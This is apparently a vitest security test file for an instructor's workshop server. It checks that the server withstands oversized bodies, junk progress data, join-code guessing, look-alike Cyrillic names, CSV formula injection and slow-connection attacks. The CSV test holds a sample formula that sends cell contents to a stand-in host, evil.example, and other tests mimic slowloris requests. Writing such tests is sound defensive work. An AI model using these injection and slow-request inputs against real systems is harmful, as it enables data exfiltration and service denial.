/**
 * Issue 15, item 8: what anyone with the join code (or without it) can do to the instructor's
 * server, through its HTTP surface as an attacker would use it. Each case failed on the server
 * before this work: progress for steps not in the course grew workshop.json without bound,
 * every join rewrote the whole file, wrong join codes were answered as fast as they came,
 * CSV cells ran as formulas, a Cyrillic "В" passed for a Latin "B", a body over 256 KB dropped
 * the connection, and a slow body held a connection for minutes.
 */
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startWorkshop, type RunningWorkshop, type WorkshopOptions } from '../../src/workshop/server.js';
import { csvCell } from '../../src/workshop/reports.js';

const COURSE = path.resolve('tests/fixtures/workshop-course');
const servers: Array<{ ws: RunningWorkshop; dir: string }> = [];

async function server(opts: Partial<WorkshopOptions> = {}): Promise<RunningWorkshop> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'iam-labs-wsh-'));
  const ws = await startWorkshop({ port: 0, stateDir: dir, reportOnly: true, ...opts });
  servers.push({ ws, dir });
  return ws;
}

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
  json: Record<string, unknown>;
}

/** One HTTP request from a chosen loopback address (127.0.0.x), as raw as a bot would send it. */
function request(ws: RunningWorkshop, method: string, route: string, body?: string | Buffer, opts: { from?: string; token?: string; chunked?: boolean } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const data = typeof body === 'string' ? Buffer.from(body) : body;
    const req = http.request(
      {
        host: '127.0.0.1',
        port: ws.port,
        method,
        path: route,
        localAddress: opts.from,
        agent: false,
        headers: {
          'content-type': 'application/json',
          ...(opts.token ? { authorization: `Bearer ${opts.token}` } : {}),
          ...(data && !opts.chunked ? { 'content-length': data.length } : {}),
        },
      },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c) => (text += c));
        res.on('end', () => {
          let json: Record<string, unknown> = {};
          try {
            json = JSON.parse(text);
          } catch {
            /* not JSON */
          }
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text, json });
        });
      },
    );
    req.on('error', reject);
    if (data && opts.chunked) {
      // A body without a declared length, sent in pieces.
      for (let i = 0; i < data.length; i += 16 * 1024) req.write(data.subarray(i, i + 16 * 1024));
      req.end();
    } else req.end(data);
  });
}

const join = (ws: RunningWorkshop, name: string, code = ws.store.identity.code, from?: string) =>
  request(ws, 'POST', '/_workshop/api/join', JSON.stringify({ name, code }), { from });

beforeAll(() => {
  process.env.IAM_LABS_COURSE_DIR = COURSE;
});

afterAll(async () => {
  for (const { ws, dir } of servers) {
    await ws.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
  delete process.env.IAM_LABS_COURSE_DIR;
});

describe('progress is limited to the course and to a size', () => {
  let ws: RunningWorkshop;
  let token: string;
  beforeAll(async () => {
    ws = await server();
    token = (await join(ws, 'Ada')).json.token as string;
  });

  it('refuses steps and labs that are not in the course, naming them', async () => {
    const step = await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify({ v: 2, lab: '01-basics', steps: [{ id: 'basics/not-a-step', status: 'failing' }] }), { token });
    expect(step.status).toBe(400);
    expect(step.json).toEqual({ code: 'ValidationError', error: 'Lab 01-basics has no step "basics/not-a-step".' });
    const lab = await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify({ v: 2, lab: '99-nope', steps: [] }), { token });
    expect(lab.status).toBe(400);
    expect(lab.json.error).toBe('Unknown lab "99-nope": this workshop offers 01-basics.');
    const v1 = await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify({ lab: '01-basics', steps: [{ id: 'x'.repeat(5000), status: 'failed' }] }), { token });
    expect(v1.status).toBe(400);
  });

  it('keeps the state small whatever is posted (40 posts of made-up steps)', async () => {
    const junk = JSON.stringify({ lab: '01-basics', steps: Array.from({ length: 2000 }, (_, i) => ({ id: `step-${i}`, status: 'failed', failing: ['x'.repeat(50)] })) });
    for (let i = 0; i < 40; i++) {
      const r = await request(ws, 'POST', '/_workshop/api/progress', junk, { token });
      expect([400, 413]).toContain(r.status);
    }
    // Bounded lists and strings in what is accepted.
    const long = { v: 2, lab: '01-basics', current: 'basics/make-user', steps: [{ id: 'basics/make-user', status: 'failing', failing: Array.from({ length: 50 }, (_, i) => `${i}`.repeat(10_000)) }] };
    expect((await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify(long), { token })).status).toBe(413);
    long.steps[0].failing = Array.from({ length: 50 }, (_, i) => `${i}`.padEnd(1000, 'y'));
    expect((await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify(long), { token })).status).toBe(204);
    const me = await request(ws, 'GET', '/_workshop/api/me', undefined, { token });
    const kept = (me.json.steps as Record<string, { failing: string[] }>)['basics/make-user'].failing;
    expect(kept).toHaveLength(8);
    expect(kept.every((f) => [...f].length === 200)).toBe(true);
    const dir = servers.find((s) => s.ws === ws)!.dir;
    const bytes = fs.readdirSync(dir).reduce((n, f) => n + (fs.statSync(path.join(dir, f)).isFile() ? fs.statSync(path.join(dir, f)).size : 0), 0);
    expect(bytes).toBeLessThan(16 * 1024);
  });

  it('answers a body over the limit with 413 and a JSON error, declared or not', async () => {
    const big = JSON.stringify({ lab: '01-basics', steps: [], pad: 'z'.repeat(300 * 1024) });
    for (const chunked of [false, true]) {
      const r = await request(ws, 'POST', '/_workshop/api/progress', big, { token, chunked });
      expect(r.status).toBe(413);
      expect(r.json).toEqual({ code: 'RequestEntityTooLarge', error: 'Request body too large: this endpoint takes at most 64 KB.' });
      const j = await request(ws, 'POST', '/_workshop/api/join', big, { chunked });
      expect(j.status).toBe(413);
      expect(j.json.code).toBe('RequestEntityTooLarge');
    }
  });
});

describe('joins are bounded and cost one appended line each', () => {
  it('takes at most --max-learners, and never rewrites the workshop file', async () => {
    const ws = await server({ maxLearners: 20 });
    const dir = servers.find((s) => s.ws === ws)!.dir;
    const identity = fs.readFileSync(path.join(dir, 'workshop.json'), 'utf8');
    const mtime = fs.statSync(path.join(dir, 'workshop.json')).mtimeMs;
    for (let i = 0; i < 20; i++) expect((await join(ws, `Bot ${i}`)).status).toBe(200);
    const full = await join(ws, 'Bot 20');
    expect(full.status).toBe(409);
    expect(full.json).toEqual({ code: 'LimitExceeded', error: 'This workshop is full: it takes 20 learners (the instructor can raise --max-learners).' });
    expect(fs.readFileSync(path.join(dir, 'workshop.json'), 'utf8')).toBe(identity);
    expect(fs.statSync(path.join(dir, 'workshop.json')).mtimeMs).toBe(mtime);
    expect(fs.readFileSync(path.join(dir, 'learners.jsonl'), 'utf8').trim().split('\n')).toHaveLength(21);
  });

  it('throttles new learners with an AWS-style 429 and Retry-After', async () => {
    const ws = await server({ throttles: { joins: { each: { burst: 100, ratePerSecond: 100 }, everyone: { burst: 5, ratePerSecond: 0.2 } } } });
    for (let i = 0; i < 5; i++) expect((await join(ws, `Quick ${i}`)).status).toBe(200);
    const sixth = await join(ws, 'Quick 5');
    expect(sixth.status).toBe(429);
    expect(sixth.json).toEqual({ code: 'ThrottlingException', error: 'Rate exceeded: too many new learners joining. Try again in 5 s.' });
    expect(sixth.headers['retry-after']).toBe('5');
  });
});

describe('join-code guessing is throttled per client and for everyone', () => {
  it('after five wrong codes a client gets 429, even for the right code, while another client may join', async () => {
    const ws = await server();
    for (let i = 0; i < 5; i++) expect((await join(ws, 'Mallory', `WRONG${i}`, '127.0.0.2')).status).toBe(403);
    const throttled = await join(ws, 'Mallory', `WRONG9`, '127.0.0.2');
    expect(throttled.status).toBe(429);
    expect(throttled.json.code).toBe('ThrottlingException');
    expect(Number(throttled.headers['retry-after'])).toBeGreaterThanOrEqual(1);
    // The right code from the throttled client tells nothing either.
    expect((await join(ws, 'Mallory', ws.store.identity.code, '127.0.0.2')).status).toBe(429);
    expect((await join(ws, 'Ada', ws.store.identity.code, '127.0.0.3')).status).toBe(200);
  });

  it('bounds the guesses of many addresses together', async () => {
    const ws = await server();
    let wrong = 0;
    for (let a = 10; a < 15; a++) for (let i = 0; i < 4; i++) if ((await join(ws, 'Bot', `NOPE${i}`, `127.0.0.${a}`)).status === 403) wrong++;
    expect(wrong).toBe(20);
    const next = await join(ws, 'Bot', 'NOPE5', '127.0.0.20');
    expect(next.status).toBe(429);
    expect(next.json.error).toMatch(/^Rate exceeded: too many join attempts with a wrong code/);
  });
});

describe('names that look alike', () => {
  let ws: RunningWorkshop;
  beforeAll(async () => {
    ws = await server();
    expect((await join(ws, 'Learner B')).status).toBe(200);
    expect((await join(ws, 'Bace')).status).toBe(200);
  });

  it('refuses a name that mixes alphabets (a Cyrillic В next to Latin letters)', async () => {
    const r = await join(ws, 'Learner \u0412');
    expect(r.status).toBe(400);
    expect(r.json).toEqual({
      code: 'InvalidName',
      error: 'The name "Learner В" mixes letters of different alphabets: Latin (“L”) and Cyrillic (“В”). Type your whole name in one alphabet, so that nobody else\'s name can look like yours.',
    });
  });

  it('refuses a one-alphabet name that looks like a learner already there', async () => {
    const r = await join(ws, '\u0412\u0430\u0441\u0435'); // "Васе", all Cyrillic
    expect(r.status).toBe(409);
    expect(r.json).toEqual({ code: 'NameConfusable', error: 'The name "Васе" looks too much like "Bace", who is already in this workshop. Pick a name that reads differently (add your surname or an initial).' });
    expect((await join(ws, 'learner  b')).json.code).toBe('NameTaken');
  });

  it('refuses invisible characters and keeps names of one other script', async () => {
    expect((await join(ws, 'Ada\u200dLovelace')).json.code).toBe('InvalidName');
    expect((await join(ws, 'Ольга')).status).toBe(200);
    expect((await join(ws, '山田 太郎')).status).toBe(200);
  });
});

describe('CSV export', () => {
  it('never lets a cell run as a formula', async () => {
    const ws = await server();
    const token = (await join(ws, '-Bo')).json.token as string;
    const failing = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@A1', '\tTAB', '\rCR'];
    const sent = await request(ws, 'POST', '/_workshop/api/progress', JSON.stringify({ v: 2, lab: '01-basics', current: 'basics/make-user', steps: [{ id: 'basics/make-user', status: 'failing', failing }] }), { token });
    expect(sent.status).toBe(204);
    const csv = await request(ws, 'GET', `/_workshop/api/export.csv?token=${ws.store.identity.instructorToken}`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const row = csv.body.split('\r\n').find((l) => l.includes('basics/make-user'))!;
    expect(row.startsWith("'-Bo,")).toBe(true);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click""); +SUM(1,2); -2+3; @A1; TAB; CR"`);
    for (const v of ['=1', '+1', '-1', '@1', '\t1', '\r1']) expect(csvCell(v).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('plain')).toBe('plain');
  });
});

describe('slow clients', () => {
  it('answers a body that stops arriving with 408, and drops a head that never ends', async () => {
    const ws = await server();
    const slowBody = new Promise<{ text: string; ms: number }>((resolve) => {
      const t0 = Date.now();
      const s = net.connect(ws.port, '127.0.0.1', () => s.write('POST /_workshop/api/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"na'));
      let text = '';
      s.on('data', (d) => (text += d));
      s.on('close', () => resolve({ text, ms: Date.now() - t0 }));
    });
    const slowHead = new Promise<number>((resolve) => {
      const t0 = Date.now();
      const s = net.connect(ws.port, '127.0.0.1', () => s.write('POST /_workshop/api/join HTTP/1.1\r\nHost: x\r\n'));
      s.on('data', () => {});
      s.on('close', () => resolve(Date.now() - t0));
    });
    const [body, head] = await Promise.all([slowBody, slowHead]);
    expect(body.text).toMatch(/^HTTP\/1\.1 408 /);
    expect(body.text).toContain('{"error":"The request body did not arrive within 10 s.","code":"RequestTimeout"}');
    expect(body.ms).toBeLessThan(20_000);
    expect(head).toBeGreaterThanOrEqual(9_000);
    expect(head).toBeLessThan(20_000);
  }, 40_000);
});
